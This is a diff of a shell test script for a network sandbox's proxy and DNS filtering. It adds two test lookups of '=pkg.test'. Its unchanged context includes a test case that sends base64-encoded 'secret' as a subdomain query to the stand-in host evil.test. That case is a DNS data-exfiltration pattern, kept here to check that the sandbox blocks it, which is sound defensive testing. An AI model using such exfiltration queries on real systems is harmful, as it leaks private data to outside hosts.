@@ -107,11 +107,13 @@ record pipelined    sbx $C send 127.0.0.1 3128 'GET http://pkg.test/whoami HTTP/
 
 # --- DNS -------------------------------------------------------------------
 record dns_direct_evil $C dns 127.0.0.1 evil.test 1
+record dns_direct_dot $C dns 127.0.0.1 =pkg.test 1
 : >"$w/dns.log"
 record dns_pkg      sbx getent hosts pkg.test
 record dns_evil     sbx sh -c 'getent hosts evil.test; echo status $?'
 record dns_txt      sbx $C dns 127.0.0.1 pkg.test 16
 record dns_exfil    sbx $C dns 127.0.0.1 c2VjcmV0.evil.test 1
+record dns_dotlabel sbx $C dns 127.0.0.1 =pkg.test 1
 record dns_log      cat "$w/dns.log"
 record dns_resolver env SBX_TEST_RESOLVER=127.0.0.1:5353 $SBX_AS "$SBX" run -q -p "$w/p.ini" -- \
     $CURL http://pkg.test/whoami
